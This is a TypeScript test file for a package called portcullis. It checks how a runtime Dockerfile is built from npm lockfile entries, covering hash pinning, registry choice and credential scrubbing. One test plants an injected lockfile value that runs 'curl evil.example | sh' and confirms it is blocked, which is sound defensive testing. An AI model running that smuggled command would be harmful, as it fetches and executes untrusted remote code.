import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runtimeDockerfile, runtimeDockerignore, type RuntimePackage } from '../../src/compile/index.js';
import { installedPackage } from '../../src/version.js';
import { dockerfileRun } from '../support/dockerfile.js';

const VERSION = '1.2.3';
const ARGS = ['--config', '/etc/portcullis/runtime.json', '--port', '9002', '--metrics-port', '9090'];
const tarball = Buffer.from('the bytes of a release');
const sha512 = createHash('sha512').update(tarball).digest('hex');
const integrity = `sha512-${createHash('sha512').update(tarball).digest('base64')}`;
const REGISTRY_URL = `https://registry.npmjs.org/portcullis/-/portcullis-${VERSION}.tgz`;

/**
 * A project that installed portcullis, on disk: its package folder under `key` and the given lockfiles
 * (package-lock.json, node_modules/.package-lock.json, …), each mapping lockfile keys to entries.
 */
function project(key: string, lockfiles: Record<string, Record<string, unknown> | string>): string {
  const root = mkdtempSync(join(tmpdir(), 'portcullis-project-'));
  const dir = join(root, ...key.split('/'));
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, 'package.json'), JSON.stringify({ name: 'portcullis', version: VERSION }));
  for (const [file, packages] of Object.entries(lockfiles)) {
    mkdirSync(join(root, file, '..'), { recursive: true });
    writeFileSync(join(root, file), typeof packages === 'string' ? packages : JSON.stringify({ lockfileVersion: 3, packages: { '': { name: 'app' }, ...packages } }));
  }
  return dir;
}
const installed = (key: string, lockfiles: Record<string, Record<string, unknown> | string>) => installedPackage(project(key, lockfiles), VERSION);
const entry = (extra: Record<string, unknown> = {}) => ({ version: VERSION, resolved: REGISTRY_URL, integrity, ...extra });

describe('where the runtime image gets portcullis from', () => {
  it('pins a registry install to the sha512 its lockfile recorded, fetched from where it was installed', () => {
    const pkg = installed('node_modules/portcullis', { 'package-lock.json': { 'node_modules/portcullis': entry() } });
    expect(pkg).toEqual({ version: VERSION, sha512, fetch: REGISTRY_URL });
    const dockerfile = runtimeDockerfile(pkg, ARGS);
    expect(dockerfileRun(dockerfile).slice(0, 3)).toEqual([
      `npm pack --silent ${REGISTRY_URL}`,
      `echo "${sha512} portcullis-${VERSION}.tgz" | sha512sum --check --strict --quiet`,
      `tar -xzf portcullis-${VERSION}.tgz --strip-components=1 --no-same-owner`,
    ]);
    expect(dockerfile).not.toMatch(/^COPY /m);
    expect(runtimeDockerignore(pkg).split('\n').filter((l) => l.startsWith('!'))).toEqual(['!Dockerfile']);
  });

  it('reads what is installed first (node_modules/.package-lock.json), and only an entry of the same version', () => {
    const other = `sha512-${createHash('sha512').update('other').digest('base64')}`;
    expect(
      installed('node_modules/portcullis', {
        'node_modules/.package-lock.json': { 'node_modules/portcullis': entry() },
        'package-lock.json': { 'node_modules/portcullis': entry({ integrity: other }) },
      }).sha512,
    ).toBe(sha512);
    // a stale hidden lockfile (another version) is passed over for the project's lockfile
    expect(
      installed('node_modules/portcullis', {
        'node_modules/.package-lock.json': { 'node_modules/portcullis': entry({ version: '0.0.1', integrity: other }) },
        'package-lock.json': { 'node_modules/portcullis': entry() },
      }).sha512,
    ).toBe(sha512);
    // nested under another package
    expect(installed('node_modules/cdk8s-stack/node_modules/portcullis', { 'package-lock.json': { 'node_modules/cdk8s-stack/node_modules/portcullis': entry() } }).sha512).toBe(sha512);
  });

  it('fetches by name from the builder’s registry when the lockfile has no plain tarball URL, and never writes credentials', () => {
    expect(installed('node_modules/portcullis', { 'package-lock.json': { 'node_modules/portcullis': entry({ resolved: undefined }) } })).toEqual({ version: VERSION, sha512, fetch: `portcullis@${VERSION}` });
    const secretUrl = `https://deploy:s3cr3t-token@npm.acme.example/portcullis/-/portcullis-${VERSION}.tgz?auth=s3cr3t-token`;
    const pkg = installed('node_modules/portcullis', { 'package-lock.json': { 'node_modules/portcullis': entry({ resolved: secretUrl }) } });
    expect(pkg).toEqual({ version: VERSION, sha512, fetch: `portcullis@${VERSION}` });
    expect(runtimeDockerfile(pkg, ARGS)).not.toContain('s3cr3t-token');
  });

  it('takes the tarball from the build context when there is none to fetch: a git dependency, a file, a link, a source checkout', () => {
    const git = 'git+ssh://git@github.com/acme/portcullis.git#0123456789abcdef0123456789abcdef01234567';
    const fromGit = installed('node_modules/portcullis', { 'package-lock.json': { 'node_modules/portcullis': { version: VERSION, resolved: git } } });
    expect(fromGit).toEqual({ version: VERSION, from: git });
    const dockerfile = runtimeDockerfile(fromGit, ARGS);
    expect(dockerfile).toContain(`#   npm pack --pack-destination out/runtime ${git}\n`);
    expect(dockerfile).toMatch(new RegExp(`^COPY portcullis-${VERSION}\\.tgz \\./$`, 'm'));
    expect(dockerfileRun(dockerfile)[0]).toBe(`tar -xzf portcullis-${VERSION}.tgz --strip-components=1 --no-same-owner`);
    expect(runtimeDockerignore(fromGit).split('\n').filter((l) => l.startsWith('!'))).toEqual(['!Dockerfile', `!portcullis-${VERSION}.tgz`]);

    // a local tarball: taken from the build context, and still checked against its sha512
    const fromFile = installed('node_modules/portcullis', { 'package-lock.json': { 'node_modules/portcullis': entry({ resolved: `file:../portcullis-${VERSION}.tgz` }) } });
    expect(fromFile).toEqual({ version: VERSION, sha512, from: `file:../portcullis-${VERSION}.tgz` });
    expect(dockerfileRun(runtimeDockerfile(fromFile, ARGS))[0]).toBe(`echo "${sha512} portcullis-${VERSION}.tgz" | sha512sum --check --strict --quiet`);

    // a link (npm link, a workspace) has no tarball, whatever else the entry says
    expect(installed('node_modules/portcullis', { 'package-lock.json': { 'node_modules/portcullis': entry({ link: true, resolved: '../portcullis' }) } })).toEqual({ version: VERSION, from: '../portcullis' });
    // sha1 is no pin
    expect(installed('node_modules/portcullis', { 'package-lock.json': { 'node_modules/portcullis': entry({ integrity: 'sha1-3nNlXb3MMwTmFc0QZdWvgtEGiOQ=' }) } }).fetch).toBeUndefined();
  });

  it('treats a missing, unreadable or foreign lockfile as no pin, and never lets a lockfile write Dockerfile instructions', () => {
    expect(installed('node_modules/portcullis', {})).toEqual({ version: VERSION });
    expect(installed('node_modules/portcullis', { 'package-lock.json': '{ not json' })).toEqual({ version: VERSION });
    expect(installed('node_modules/portcullis', { 'package-lock.json': { 'node_modules/other': entry() } })).toEqual({ version: VERSION });
    // a source checkout: not inside any node_modules
    expect(installed('src/portcullis', { 'package-lock.json': { 'node_modules/portcullis': entry() } })).toEqual({ version: VERSION });

    const injected = installed('node_modules/portcullis', { 'package-lock.json': { 'node_modules/portcullis': { version: VERSION, resolved: 'git+https://x/y.git\nRUN curl evil.example | sh' } } });
    expect(injected).toEqual({ version: VERSION });
    const dockerfile = runtimeDockerfile(injected, ARGS);
    expect(dockerfile).not.toContain('evil.example');
    const instructions = dockerfile.split('\n').filter((l) => /^[A-Z]+ /.test(l)).map((l) => l.split(' ')[0]);
    expect(instructions).toEqual(['FROM', 'ENV', 'WORKDIR', 'COPY', 'RUN', 'USER', 'EXPOSE', 'ENTRYPOINT', 'CMD']);
  });

  it('renders every kind of source as a complete Dockerfile with the same install and entry point', () => {
    const sources: RuntimePackage[] = [{ version: VERSION }, { version: VERSION, sha512, fetch: REGISTRY_URL }, { version: VERSION, sha512, from: 'file:x.tgz' }];
    const tails = sources.map((p) => dockerfileRun(runtimeDockerfile(p, ARGS)).slice(-4));
    for (const t of tails) expect(t).toEqual(tails[0]);
    for (const p of sources) expect(runtimeDockerfile(p, ARGS)).toMatch(/^ENTRYPOINT \["node",.*"runtime"\]\nCMD .*\n$/m);
  });
});
